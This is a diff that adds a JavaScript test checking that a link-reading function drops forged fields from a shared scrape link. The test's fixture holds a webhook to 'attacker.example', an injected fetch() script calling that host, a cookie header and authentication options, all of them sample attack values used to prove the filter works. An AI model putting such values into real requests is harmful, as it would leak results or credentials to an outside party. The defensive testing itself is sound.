@@ -107,3 +107,17 @@ test('a value is set at a path, and removed together with groups that become emp
   expect(withValue(values, 'options.maxPages', undefined)).toEqual({ url: 'x' })
   expect(withValue(values, 'url.deeper', 1)).toEqual({ url: { deeper: 1 }, options: { maxPages: 5 } })
 })
+
+test('a link that somebody wrote cannot send results elsewhere, or bring code or credentials', () => {
+  const forged = {
+    url: 'https://example.com/',
+    webhook: 'https://attacker.example/',
+    executeJS: 'fetch("https://attacker.example/")',
+    headers: { cookie: 'a=b' },
+    scrapeOptions: { actions: [{ type: 'click', selector: 'button' }], authentication: {}, onlyMainContent: true },
+  }
+  expect(readLink(`?${new URLSearchParams({ body: JSON.stringify(forged) })}`)).toEqual({
+    url: 'https://example.com/',
+    scrapeOptions: { onlyMainContent: true },
+  })
+})
